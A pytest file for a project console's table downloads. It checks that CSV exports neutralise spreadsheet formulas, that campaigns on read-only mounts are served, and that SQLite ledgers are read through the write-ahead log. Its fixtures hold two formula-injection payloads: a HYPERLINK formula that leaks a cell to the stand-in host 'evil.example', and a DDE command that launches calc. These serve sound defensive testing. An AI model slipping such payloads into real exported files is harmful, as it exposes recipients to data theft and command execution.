"""The console's table downloads never hand a spreadsheet a formula, and a campaign on a read-only
mount is served like any other (issue 43 item 4)."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

pytest.importorskip("fastapi", reason="the console extra is not installed (pip install 'kosmos-env[console]')")
pytest.importorskip("httpx", reason="the console extra is not installed (pip install 'kosmos-env[console]')")

from fastapi.testclient import TestClient

from kosmos_env.campaign.ledger import Ledger
from kosmos_env.campaign.readonly import connect_readonly
from kosmos_env.console.app import create_app
from kosmos_env.console.campaigns import folder_key
from kosmos_env.console.views import table_response
from tests.support.campaign import planned_ledger
from tests.support.paths import ROOT
from tests.support.publish_bundles import campaign

TOKEN = "test-token-0123456789abcdef"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv(response) -> list[list[str]]:
    """The rows of a CSV download (an HTTP client's response, or the app's own Response object)."""
    text = response.text if hasattr(response, "text") else response.body.decode("utf-8")
    assert response.status_code == 200, text[:500]
    return list(csv.reader(io.StringIO(text, newline="")))


def test_policy_labels_that_are_formulas_download_as_text(tmp_path):
    planned_ledger(tmp_path / "evil", labels=(LINK, SUM))
    c = TestClient(create_app([str(tmp_path)], TOKEN), base_url="http://127.0.0.1")
    key = folder_key(tmp_path / "evil")
    for url in (f"/c/{key}/table", f"/c/{key}/episodes", "/"):
        rows = _csv(c.get(url, params={"format": "csv"}))
        cells = [cell for row in rows for cell in row]
        assert "'" + LINK in cells and "'" + SUM in cells, (url, rows[:3])
        assert not [cell for cell in cells if cell.startswith(("=", "@"))], url
    # parquet keeps the labels as stored: neutralising is for spreadsheets reading CSV only
    pq = pytest.importorskip("pyarrow.parquet")
    got = c.get(f"/c/{key}/table", params={"format": "parquet"})
    assert got.status_code == 200
    assert set(pq.read_table(io.BytesIO(got.content)).column("policy").to_pylist()) == {LINK, SUM}


def test_only_text_that_a_spreadsheet_would_run_is_quoted():
    rows = [
        {"label": "=1+1", "value": -0.23, "text": "-0.23"},
        {"label": "+cmd", "value": -7, "text": "+0.5"},
        {"label": "-2+3", "value": 1e-5, "text": "-1.5e-3"},
        {"label": "\t=1", "value": None, "text": "-0.004 [-0.010, +0.002]"},
        {"label": "\r@x", "value": 0.5, "text": "plain"},
    ]
    out = _csv(table_response("t", ["label", "value", "text"], rows, "csv"))
    assert out[0] == ["label", "value", "text"]
    assert [r[0] for r in out[1:]] == ["'=1+1", "'+cmd", "'-2+3", "'\t=1", "'\r@x"]
    # numbers stay numbers, and text that is a plain number is what a spreadsheet reads as that number
    assert [r[1] for r in out[1:]] == ["-0.23", "-7", "1e-05", "", "0.5"]
    assert [r[2] for r in out[1:]] == ["-0.23", "+0.5", "-1.5e-3", "'-0.004 [-0.010, +0.002]", "plain"]
    from kosmos_env.console.views import csv_safe

    assert csv_safe(-0.23) == -0.23 and csv_safe("-") == "'-" and csv_safe("") == ""


def _read_only_mount_runner(folder: Path) -> list[str] | None:
    """The argv prefix that runs a command with ``folder`` read-only (None: no way to do so here).
    A normal user gets chmod; root ignores modes, so a read-only bind mount in a private mount
    namespace (as tests/campaign/test_verify_rederive.py does)."""
    if os.geteuid() != 0:
        return []
    probe = subprocess.run(["unshare", "-m", "sh", "-c", f"mount --bind {folder} {folder}"], capture_output=True)
    if probe.returncode != 0:
        return None
    mount = (
        f"mount --bind {folder} {folder} && mount -o remount,bind,ro {folder} && touch {folder}/probe 2>/dev/null; "
        f'test ! -e {folder}/probe && exec "$@"'
    )
    return ["unshare", "-m", "sh", "-c", mount, "sh"]


SERVE_ONE = """
import json, sys
from fastapi.testclient import TestClient
from kosmos_env.console.app import create_app
from kosmos_env.console.campaigns import folder_key
from pathlib import Path
root = Path(sys.argv[1])
c = TestClient(create_app([str(root)], "token-0123456789abcdef"), base_url="http://127.0.0.1")
key = folder_key(root)
index, page, live = c.get("/"), c.get(f"/c/{key}"), c.get(f"/c/{key}/live.json")
print(json.dumps({"index": index.status_code, "page": page.status_code, "live": live.status_code,
                  "unreadable": "not a readable campaign ledger" in index.text + page.text,
                  "done": live.json().get("queue", {}).get("done") if live.status_code == 200 else None}))
"""


def test_a_campaign_on_a_read_only_mount_is_served(tmp_path_factory, tmp_path):
    out = tmp_path / "ro"
    shutil.copytree(campaign(tmp_path_factory, "a"), out)
    for name in ("ledger.sqlite-shm", "ledger.sqlite-wal"):  # a finished campaign's folder, as copied
        (out / name).unlink(missing_ok=True)
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    runner = _read_only_mount_runner(out)
    if runner is None:
        pytest.skip("running as root without mount namespaces: no way to make a read-only folder here")
    if not runner:
        for p in [out, *out.rglob("*")]:
            p.chmod(p.stat().st_mode & ~0o222)
    env = dict(os.environ, PYTHONPATH=str(ROOT), OMP_NUM_THREADS="1")
    try:
        proc = subprocess.run(
            [*runner, sys.executable, "-c", SERVE_ONE, str(out)], env=env, capture_output=True, text=True, timeout=120
        )
    finally:
        if not runner:
            for p in [out, *out.rglob("*")]:
                p.chmod(p.stat().st_mode | 0o200)
    assert proc.returncode == 0, proc.stdout + proc.stderr[-3000:]
    got = json.loads(proc.stdout.strip().splitlines()[-1])
    assert got == {"index": 200, "page": 200, "live": 200, "unreadable": False, "done": 6}, got
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before  # nothing written


def test_a_writable_folder_is_read_through_its_write_ahead_log(tmp_path):
    """A campaign folder that can be written is never read ``immutable`` (that would miss what a
    running campaign has committed to its log but not yet checkpointed)."""
    planned_ledger(tmp_path / "live")
    path = tmp_path / "live" / "ledger.sqlite"
    with Ledger(path, create=False) as writer:
        writer.conn.execute("PRAGMA wal_autocheckpoint = 0")  # the change stays in the -wal file
        with writer.transaction() as conn:
            conn.execute("INSERT INTO meta (key, value) VALUES ('probe', 'committed')")
        reader = connect_readonly(path)
        try:
            assert reader.execute("SELECT value FROM meta WHERE key = 'probe'").fetchone()[0] == "committed"
        finally:
            reader.close()
    with pytest.raises(sqlite3.OperationalError):  # and the connection can change nothing
        connect_readonly(path).execute("DELETE FROM meta")
